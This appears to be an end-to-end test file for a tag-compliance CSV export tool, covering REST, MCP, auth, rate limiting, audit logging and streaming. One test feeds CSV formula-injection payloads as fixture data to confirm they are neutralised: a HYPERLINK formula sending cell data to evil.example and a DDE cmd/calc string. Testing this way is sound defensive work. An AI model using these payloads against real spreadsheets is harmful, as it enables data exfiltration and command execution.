/**
 * export_violations_csv end to end on the real app and the simulator: REST JSON, GET and POST
 * text/csv downloads, MCP; row counts against check_tag_compliance; columns, severity, costs
 * only when asked for; auth, account allow-list, rate limit, audit and metrics on the download
 * route; hostile tag values; a large generated organization streamed in chunks.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import t from 'tap';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { buildApp } from '../../src/app.js';
import { testConfig } from '../../src/config/index.js';
import { startsWithFormulaTrigger } from '../../src/export/csv.js';
import { VIOLATION_COLUMNS } from '../../src/export/violation-rows.js';
import { generateOrganization } from '../../src/simulator/generate.js';
import { startSimulator } from '../../src/simulator/server.js';
import { exportViolationsCsv } from '../../src/tools/export-violations-csv.js';
import { DEMO_ACCOUNTS, READABLE_ACCOUNTS, expectedCompliance, schemaErrors, startDemo } from '../e2e/harness.js';
import { acct, org, policyPath, res, startUat } from '../e2e/helpers.js';
import { parseCsv } from '../export/rfc4180.js';
import { isolateNetwork } from '../helpers/network.js';

isolateNetwork();

const TOOL = '/tools/export_violations_csv';

interface ExportAnswer {
  csv: string;
  columns: string[];
  row_count: number;
  total_rows: number;
  truncated: boolean;
  bytes: number;
  severity: string;
  download: { method: string; path: string; accept: string; filename: string; note: string };
  data_quality: { status: string; cells_requested: number; cells_complete: number; failed: { account_id: string }[]; coverage_notes: string[] };
  note: string;
  account_metadata?: { failed_accounts: string[] };
  account_errors?: { account_id: string }[];
}

interface Violation {
  resource_arn: string;
  account_id: string;
  region: string;
  tag_name: string;
  violation_type: string;
  severity: string;
  current_value: string | null;
  cost_impact_monthly: number;
}

const rowKey = (r: Partial<Record<'resource_arn' | 'tag_name' | 'violation_type', string>>): string => `${r.resource_arn}|${r.tag_name}|${r.violation_type}`;

/** Rows of a CSV as objects by header name (the header row must be the given columns). */
function records(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  if (header === undefined) throw new Error('no header row');
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? ''])));
}

t.test('demo organization', async (t) => {
  const demo = await startDemo();
  t.teardown(() => demo.close());
  const { app } = demo;

  async function post(args: unknown, headers: Record<string, string> = {}) {
    return app.inject({ method: 'POST', url: TOOL, payload: JSON.stringify(args), headers: { 'content-type': 'application/json', ...headers } });
  }
  async function compliance(args: Record<string, unknown>): Promise<{ violation_count: number; violations: Violation[] }> {
    const all: Violation[] = [];
    let cursor: string | null = null;
    let count = 0;
    do {
      const r = await app.inject({ method: 'POST', url: '/tools/check_tag_compliance', payload: { ...args, limit: 500, ...(cursor === null ? {} : { cursor }) } });
      const body = r.json() as { violation_count: number; violations: Violation[]; next_cursor: string | null };
      all.push(...body.violations);
      count = body.violation_count;
      cursor = body.next_cursor;
    } while (cursor !== null);
    return { violation_count: count, violations: all };
  }

  t.test('REST JSON: bounded csv, counts equal check_tag_compliance, same rows, schema-valid', async (t) => {
    const scope = { account_ids: ['production', 'staging'] };
    const r = await post({ ...scope, max_rows: 50_000 });
    t.equal(r.statusCode, 200, r.body.slice(0, 300));
    const body = r.json() as ExportAnswer;
    t.same(schemaErrors(exportViolationsCsv.outputSchema, body), [], 'output matches the schema');
    const check = await compliance(scope);
    const expected = expectedCompliance(demo.policy, demo.sim.fixture, [DEMO_ACCOUNTS.production, DEMO_ACCOUNTS.staging]);
    t.ok(check.violation_count > 10, `the demo has violations (${check.violation_count})`);
    t.equal(body.total_rows, check.violation_count, 'total_rows = check_tag_compliance violation_count');
    t.equal(body.total_rows, expected.violation_count, 'and = the fixture evaluated independently');
    t.equal(body.row_count, body.total_rows);
    t.equal(body.truncated, false);
    t.same(body.columns, [...VIOLATION_COLUMNS], 'default: every column in the documented order');
    t.equal(body.bytes, Buffer.byteLength(body.csv, 'utf8'));
    const rows = records(body.csv);
    t.equal(rows.length, body.total_rows);
    t.same(rows.map(rowKey).sort(), check.violations.map(rowKey).sort(), 'exactly the violations check_tag_compliance lists');
    const byKey = new Map(check.violations.map((v) => [rowKey(v), v]));
    for (const row of rows.slice(0, 50)) {
      const v = byKey.get(rowKey(row));
      t.ok(v !== undefined);
      if (v === undefined) continue;
      t.same(
        [row['account_id'], row['region'], row['severity'], row['current_value'], Number(row['cost_impact_monthly'])],
        [v.account_id, v.region, v.severity, v.current_value === null ? '' : startsWithFormulaTrigger(v.current_value) ? `'${v.current_value}` : v.current_value, v.cost_impact_monthly],
        `row of ${row['resource_id']} ${row['tag_name']}`,
      );
    }
    const names = new Set(rows.map((x) => x['account_name']));
    t.same([...names].sort(), ['production', 'staging'].sort(), 'account_name from the organization');
    t.equal(body.data_quality.status, 'complete');
    t.match(body.download, { method: 'GET', accept: 'text/csv', path: `${TOOL}?account_ids=${DEMO_ACCOUNTS.production}%2C${DEMO_ACCOUNTS.staging}` });
    t.match(body.download.filename, /^tag-violations-\d{4}-\d{2}-\d{2}\.csv$/);

    const small = (await post({ ...scope, max_rows: 3 })).json() as ExportAnswer;
    t.same([small.row_count, small.total_rows, small.truncated], [3, body.total_rows, true], 'max_rows caps the inline csv');
    t.equal(records(small.csv).length, 3);
    t.match(small.note, /first 3 of/);
    t.match(small.note, new RegExp(`GET ${TOOL.replace(/\//g, '\\/')}\\?`));
  });

  t.test('GET text/csv: full file streamed as an attachment with data quality headers; POST with Accept: text/csv is the same file', async (t) => {
    const json = (await post({ account_ids: ['production', 'staging'], max_rows: 1 })).json() as ExportAnswer;
    const get = await app.inject({ method: 'GET', url: json.download.path });
    t.equal(get.statusCode, 200, get.body.slice(0, 300));
    t.equal(get.headers['content-type'], 'text/csv; charset=utf-8');
    t.match(String(get.headers['content-disposition']), /^attachment; filename="tag-violations-\d{4}-\d{2}-\d{2}\.csv"$/);
    t.equal(get.headers['x-data-quality'], 'complete');
    t.equal(get.headers['x-total-rows'], String(json.total_rows));
    t.equal(get.headers['x-data-quality-cells'], `${json.data_quality.cells_complete}/${json.data_quality.cells_requested}`);
    t.equal(get.headers['content-length'], undefined, 'streamed: no content-length');
    t.ok(get.body.endsWith('\r\n') && get.body.split('\r\n')[0] === VIOLATION_COLUMNS.join(','), 'header row, CRLF');
    t.equal(records(get.body).length, json.total_rows, 'every row, not the inline cap');

    const full = (await post({ account_ids: ['production', 'staging'], max_rows: 50_000 })).json() as ExportAnswer;
    t.equal(get.body, full.csv, 'the download is the same file as the untruncated inline csv');

    const postCsv = await post({ account_ids: ['production', 'staging'] }, { accept: 'text/csv' });
    t.equal(postCsv.statusCode, 200);
    t.equal(postCsv.headers['content-type'], 'text/csv; charset=utf-8');
    t.equal(postCsv.body, get.body, 'POST Accept: text/csv = GET');

    for (const accept of [undefined, '*/*', 'application/json', 'application/json, text/csv;q=0.5']) {
      const r = await post({ account_ids: ['production'], max_rows: 1 }, accept === undefined ? {} : { accept });
      t.match(r.headers['content-type'], /^application\/json/, `POST with Accept ${String(accept)} answers JSON`);
    }
    const getJson = await app.inject({ method: 'GET', url: `${TOOL}?account_ids=production&max_rows=2`, headers: { accept: 'application/json' } });
    t.match(getJson.headers['content-type'], /^application\/json/, 'GET asking for JSON only gets the JSON answer');
    t.equal((getJson.json() as ExportAnswer).row_count, 2, 'query scalars are converted (max_rows)');

    const head = await app.inject({ method: 'HEAD', url: json.download.path });
    t.not(head.statusCode, 200, 'no HEAD route (it would scan for nothing)');
  });

  t.test('columns, severity and query lists', async (t) => {
    const cols = ['resource_id', 'tag_name', 'severity'];
    const get = await app.inject({ method: 'GET', url: `${TOOL}?account_ids=production&account_ids=staging&columns=${cols.join(',')}&severity=errors_only` });
    t.equal(get.statusCode, 200, get.body.slice(0, 300));
    const [header, ...rows] = parseCsv(get.body);
    t.same(header, cols, 'the chosen columns in the chosen order');
    const errorsOnly = await compliance({ account_ids: ['production', 'staging'], severity: 'errors_only' });
    t.equal(rows.length, errorsOnly.violation_count, 'errors_only rows = check_tag_compliance errors_only violation_count');
    t.ok(rows.every((r) => r[2] === 'error'));

    const warnings = (await post({ account_ids: ['all'], severity: ['warnings_only'], max_rows: 50_000 })).json() as ExportAnswer;
    const checkWarnings = await compliance({ account_ids: ['all'], severity: 'warnings_only' });
    t.equal(warnings.total_rows, checkWarnings.violation_count, 'warnings_only (sent as a one-element array) matches too');
    t.ok(records(warnings.csv).every((r) => r['severity'] === 'warning'));

    const bad = await post({ columns: ['account_id', 'owner'] });
    t.equal(bad.statusCode, 400);
    const err = bad.json() as { error: string; message: string; field?: string };
    t.match(err.message, /"owner" is not a supported column \(allowed: account_id, account_name, resource_arn, .*cost_impact_monthly\)/, err.message);
    t.equal(err.field, '/columns/1');
    const badGet = await app.inject({ method: 'GET', url: `${TOOL}?columns=account_id,nope` });
    t.equal(badGet.statusCode, 400, 'GET: the same 400, as JSON, before any CSV byte');
    t.match(badGet.headers['content-type'], /^application\/json/);
    t.match((badGet.json() as { message: string }).message, /"nope" is not a supported column \(allowed: /);
    const dup = await post({ columns: ['tag_name', 'tag_name'] });
    t.equal(dup.statusCode, 400, 'a repeated column is refused');
    const unknownParam = await app.inject({ method: 'GET', url: `${TOOL}?acount_ids=production` });
    t.equal(unknownParam.statusCode, 400);
    t.match((unknownParam.json() as { message: string }).message, /unknown field "acount_ids"/);
  });

  t.test('Cost Explorer is read only when cost_impact_monthly is asked for', async (t) => {
    const ceCalls = (): number => Object.entries(demo.sim.stats().calls).filter(([k]) => /GetCostAndUsage/.test(k)).reduce((s, [, n]) => s + n, 0);
    demo.sim.resetStats();
    const noCost = await post({ account_ids: ['development'], columns: ['resource_arn', 'tag_name'], force_refresh: true });
    t.equal(noCost.statusCode, 200);
    t.equal(ceCalls(), 0, 'no Cost Explorer call without the cost column');
    const withCost = await post({ account_ids: ['development'], columns: ['resource_arn', 'cost_impact_monthly'], force_refresh: true, max_rows: 50_000 });
    t.equal(withCost.statusCode, 200);
    t.ok(ceCalls() > 0, 'Cost Explorer read for the cost column');
    const rows = records((withCost.json() as ExportAnswer).csv);
    t.ok(rows.length > 0 && rows.every((r) => /^\d+(\.\d+)?$/.test(r['cost_impact_monthly'] ?? '')), 'costs are plain non-negative numbers');
    t.ok(rows.some((r) => Number(r['cost_impact_monthly']) > 0), 'some violation carries spend');
  });

  t.test('Cost Explorer unreadable: the cost column is empty (unknown), not 0, and the answer says so', async (t) => {
    demo.sim.setFaults({ access_denied_services: { [DEMO_ACCOUNTS.management]: ['ce'] } });
    t.teardown(() => demo.sim.setFaults({}));
    const r = await post({ account_ids: ['development'], columns: ['resource_arn', 'cost_impact_monthly'], force_refresh: true, max_rows: 50_000 });
    t.equal(r.statusCode, 200, r.body.slice(0, 300));
    const body = r.json() as ExportAnswer;
    const rows = records(body.csv);
    t.ok(rows.length > 0);
    t.ok(rows.every((x) => x['cost_impact_monthly'] === ''), 'every cost cell empty');
    t.match(body.note, /cost_impact_monthly is empty/);
    t.ok(body.data_quality.coverage_notes.some((n) => /Cost Explorer could not be read/.test(n)), 'coverage note from the scan');
  });

  t.test('every example of the tool answers 200 with a schema-valid body', async (t) => {
    for (const example of exportViolationsCsv.examples) {
      const r = await post(example);
      t.equal(r.statusCode, 200, `${JSON.stringify(example)}: ${r.statusCode === 200 ? '' : r.body.slice(0, 200)}`);
      t.same(schemaErrors(exportViolationsCsv.outputSchema, r.json()), [], JSON.stringify(example));
    }
  });

  t.test('a failed account: partial data in the JSON answer and in the download headers', async (t) => {
    const json = (await post({ account_ids: ['all'], max_rows: 0 })).json() as ExportAnswer;
    t.equal(json.data_quality.status, 'partial');
    t.same(json.account_metadata?.failed_accounts, [DEMO_ACCOUNTS.legacy]);
    t.equal(json.row_count, 0, 'max_rows 0: header only');
    t.equal(json.csv, `${VIOLATION_COLUMNS.join(',')}\r\n`);
    t.equal(json.total_rows, expectedCompliance(demo.policy, demo.sim.fixture, READABLE_ACCOUNTS).violation_count);
    t.match(json.note, /partial/);
    const get = await app.inject({ method: 'GET', url: json.download.path });
    t.equal(get.statusCode, 200);
    t.equal(get.headers['x-data-quality'], 'partial');
    t.equal(get.headers['x-failed-accounts'], DEMO_ACCOUNTS.legacy);
    t.ok(Number(get.headers['x-data-quality-failed-cells']) > 0);
    t.equal(records(get.body).length, json.total_rows);
  });

  t.test('MCP: tools/list has it; tools/call answers the same csv as REST', async (t) => {
    const base = await app.listen({ host: '127.0.0.1', port: 0 });
    const client = new Client({ name: 'csv-test', version: '1.0.0' });
    await client.connect(new StreamableHTTPClientTransport(new URL('/mcp', base)));
    t.teardown(() => client.close());
    const listed = (await client.listTools()).tools.find((x) => x.name === 'export_violations_csv');
    t.ok(listed, 'listed');
    t.same((listed?.inputSchema.properties as Record<string, { items?: { enum?: unknown } }>)['columns']?.items?.enum, [...VIOLATION_COLUMNS], 'the columns enum is in the schema');
    const args = { account_ids: ['production'], columns: ['resource_arn', 'tag_name', 'current_value'], max_rows: 50_000 };
    const result = await client.callTool({ name: 'export_violations_csv', arguments: args });
    t.notOk(result.isError, JSON.stringify(result.content).slice(0, 300));
    const structured = result.structuredContent as unknown as ExportAnswer;
    t.same(schemaErrors(exportViolationsCsv.outputSchema, structured), []);
    const rest = (await post(args)).json() as ExportAnswer;
    t.equal(structured.csv, rest.csv, 'same csv over MCP and REST');
    t.equal(structured.total_rows, rest.total_rows);
    const bad = await client.callTool({ name: 'export_violations_csv', arguments: { columns: ['bogus'] } });
    t.equal(bad.isError, true);
    t.match(JSON.stringify(bad.content), /not a supported column/);
  });
});

t.test('the download route: auth, account allow-list, rate limit, audit, metrics', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'csv-audit-'));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  const auditPath = join(dir, 'audit.log');
  const demo = await startDemo({
    auth: { mode: 'api_key', api_keys: [{ id: 'ops', key: 'ops-key-0123456789abcdef' }, { id: 'prod', key: 'prod-key-0123456789abcdef' }], key_accounts: { prod: [DEMO_ACCOUNTS.production] } },
    security: { rate_limit_scans_per_minute: 3, audit_log_path: auditPath },
  });
  t.teardown(() => demo.close());
  const { app } = demo;
  const ops = { authorization: 'Bearer ops-key-0123456789abcdef' };
  const prod = { authorization: 'Bearer prod-key-0123456789abcdef' };
  const url = `${TOOL}?account_ids=production&columns=resource_arn,tag_name`;

  const anon = await app.inject({ method: 'GET', url });
  t.equal(anon.statusCode, 401, 'no key: 401');
  t.match(anon.headers['content-type'], /^application\/json/);
  const wrong = await app.inject({ method: 'GET', url, headers: { authorization: 'Bearer nope' } });
  t.equal(wrong.statusCode, 401, 'wrong key: 401');
  const postAnon = await app.inject({ method: 'POST', url: TOOL, payload: {}, headers: { accept: 'text/csv' } });
  t.equal(postAnon.statusCode, 401, 'POST text/csv without a key: 401');

  const okGet = await app.inject({ method: 'GET', url, headers: prod });
  t.equal(okGet.statusCode, 200, okGet.body.slice(0, 200));
  t.equal(okGet.headers['content-type'], 'text/csv; charset=utf-8');
  const denied = await app.inject({ method: 'GET', url: `${TOOL}?account_ids=staging`, headers: prod });
  t.equal(denied.statusCode, 403, 'an account outside the key allow-list: 403');
  t.match(denied.headers['content-type'], /^application\/json/);
  t.match((denied.json() as { message: string }).message, /may not scan account/);
  const deniedPost = await app.inject({ method: 'POST', url: TOOL, payload: { account_ids: ['staging'] }, headers: { ...prod, accept: 'text/csv' } });
  t.equal(deniedPost.statusCode, 403, 'same through POST text/csv');

  // The scan limit (3 per minute) is shared by GET and POST: ops has used none yet.
  const codes: number[] = [];
  for (let i = 0; i < 2; i++) codes.push((await app.inject({ method: 'GET', url, headers: ops })).statusCode);
  codes.push((await app.inject({ method: 'POST', url: TOOL, payload: { account_ids: ['production'] }, headers: { ...ops, accept: 'text/csv' } })).statusCode);
  const limited = await app.inject({ method: 'GET', url, headers: ops });
  codes.push(limited.statusCode);
  t.same(codes, [200, 200, 200, 429], 'GET and POST share the scan rate limit');
  t.match((limited.json() as { message: string }).message, /Rate limit reached: at most 3 calls of tools that scan AWS per minute/);
  t.ok(limited.headers['retry-after'] !== undefined, 'Retry-After');

  await app.close();
  const events = readFileSync(auditPath, 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as { tool?: string; via?: string; principal?: string; outcome?: string; status?: number });
  const csvEvents = events.filter((e) => e.tool === 'export_violations_csv');
  t.ok(csvEvents.some((e) => e.principal === 'prod' && e.via === 'rest' && e.outcome === 'ok'), 'the GET download is audited');
  t.ok(csvEvents.some((e) => e.principal === 'prod' && e.outcome === 'refused' && e.status === 403), 'the refused account is audited');
});

t.test('metrics count GET downloads as tool calls', async (t) => {
  const demo = await startDemo();
  t.teardown(() => demo.close());
  const r = await demo.app.inject({ method: 'GET', url: `${TOOL}?account_ids=production` });
  t.equal(r.statusCode, 200);
  const metrics = await demo.app.inject({ method: 'GET', url: '/metrics' });
  t.match(metrics.body, /finops_tool_calls_total\{tool="export_violations_csv",outcome="ok"\} 1/);
  t.match(metrics.body, /finops_http_requests_total\{method="GET",route="\/tools\/export_violations_csv",status_code="200"\} 1/);
});

t.test('hostile tag values and account names round-trip safely', async (t) => {
  const HOSTILE = [
    'a,b',
    'say "hi"',
    'line1\nline2',
    'cr\r\nlf',
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    '+1',
    '-2',
    '@SUM(A1:A2)',
    '\t=1+1',
    'Ünïcødé 日本 🙂',
    "'already quoted",
    '＝1+1',
  ];
  const member = '222222222222';
  const fixture = org([
    acct(
      member,
      HOSTILE.map((value, i) => res('ec2:instance', `i-hostile${String(i).padStart(4, '0')}`, 'us-east-1', { Owner: 'alice', Environment: value })),
      { name: '=cmd|" /C calc"!A0, Inc' },
    ),
  ]);
  const uat = await startUat({ fixture, multi_account: { discovery: 'organizations' } });
  t.teardown(() => uat.close());
  const get = await uat.app.inject({ method: 'GET', url: `${TOOL}?account_ids=${member}&columns=account_name,resource_id,current_value,allowed_values` });
  t.equal(get.statusCode, 200, get.body.slice(0, 300));
  const rows = records(get.body);
  t.equal(rows.length, HOSTILE.length, 'one invalid_value row per hostile value');
  for (const row of rows) for (const cell of Object.values(row)) t.notOk(startsWithFormulaTrigger(cell), `no cell starts a formula: ${JSON.stringify(cell)}`);
  const seen = new Map(rows.map((r) => [r['resource_id'], r]));
  // What the scan read (the simulator's XML does not escape CR, so an XML reader turns CRLF into LF).
  const check = (await uat.app.inject({ method: 'POST', url: '/tools/check_tag_compliance', payload: { account_ids: [member], limit: 500 } })).json() as { violations: (Violation & { resource_id: string })[] };
  const scanned = new Map(check.violations.map((v) => [v.resource_id, v.current_value]));
  HOSTILE.forEach((value, i) => {
    const id = `i-hostile${String(i).padStart(4, '0')}`;
    const row = seen.get(id);
    const read = scanned.get(id) ?? null;
    if (!value.includes('\r')) t.equal(read, value, `the scan reads ${JSON.stringify(value)} intact`);
    const want = read === null ? '' : startsWithFormulaTrigger(read) ? `'${read}` : read;
    t.equal(row?.['current_value'], want, `value ${JSON.stringify(read)} comes back ${JSON.stringify(want)}`);
    t.equal(row?.['allowed_values'], 'production; staging');
  });
  t.equal(rows[0]?.['account_name'], `'=cmd|" /C calc"!A0, Inc`, 'a hostile account name is neutralised too');
  const json = (await uat.app.inject({ method: 'POST', url: TOOL, payload: { account_ids: [member], columns: ['account_name', 'resource_id', 'current_value', 'allowed_values'], max_rows: 1000 } })).json() as ExportAnswer;
  t.equal(json.csv, get.body, 'JSON csv = download');
});

t.test('a large generated organization streams in many chunks, every row', async (t) => {
  const fixture = generateOrganization({ accounts: 4, regions: ['us-east-1', 'eu-west-1'], resourcesPerRegion: 600, complianceRate: 0.1, seed: 7, types: ['ec2:instance', 's3:bucket', 'rds:db'] });
  const sim = await startSimulator({ fixture, port: 0, host: '127.0.0.1' });
  t.teardown(() => sim.stop());
  const config = testConfig({ aws: { endpoint_url: sim.endpoint, credentials: { ...sim.credentials } }, multi_account: { enabled: true, discovery: 'organizations' }, policy_path: policyPath() });
  const app = await buildApp({ config, logger: false, policy: { watch: false } });
  t.teardown(() => app.close());
  const check = await app.inject({ method: 'POST', url: '/tools/check_tag_compliance', payload: { account_ids: ['all'], limit: 1 } });
  const expected = (check.json() as { violation_count: number }).violation_count;
  t.ok(expected > 2000, `thousands of violations (${expected})`);

  const base = await app.listen({ host: '127.0.0.1', port: 0 });
  const { status, headers, chunks, body } = await new Promise<{ status: number; headers: Record<string, unknown>; chunks: number; body: string }>((resolve, reject) => {
    const req = httpRequest(new URL(`${TOOL}?account_ids=all`, base), { method: 'GET' }, (res) => {
      let n = 0;
      const parts: Buffer[] = [];
      res.on('data', (c: Buffer) => {
        n += 1;
        parts.push(c);
      });
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, chunks: n, body: Buffer.concat(parts).toString('utf8') }));
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end();
  });
  t.equal(status, 200);
  t.equal(headers['transfer-encoding'], 'chunked', 'chunked transfer: streamed');
  t.equal(headers['content-length'], undefined);
  t.ok(chunks > 3, `arrived in many pieces (${chunks})`);
  t.ok(Buffer.byteLength(body) > 200_000, `a large file (${Buffer.byteLength(body)} bytes)`);
  t.equal(records(body).length, expected, 'rows = check_tag_compliance violation_count');
  t.equal(headers['x-total-rows'], String(expected));

  // A client that hangs up after the first piece: the server stops writing and keeps serving.
  const firstPiece = await new Promise<number>((resolve, reject) => {
    const req = httpRequest(new URL(`${TOOL}?account_ids=all`, base), { method: 'GET' }, (res) => {
      res.once('data', (c: Buffer) => {
        req.destroy();
        resolve(c.length);
      });
      res.on('error', () => undefined);
    });
    req.on('error', (err) => (req.destroyed ? undefined : reject(err)));
    req.end();
  });
  t.ok(firstPiece > 0, 'got a first piece, then hung up');
  const health = await app.inject({ method: 'GET', url: '/health' });
  t.equal(health.statusCode, 200, 'the server still answers');
  const again = await app.inject({ method: 'GET', url: `${TOOL}?account_ids=all&columns=resource_id` });
  t.equal(records(again.body).length, expected, 'and exports again in full');
});
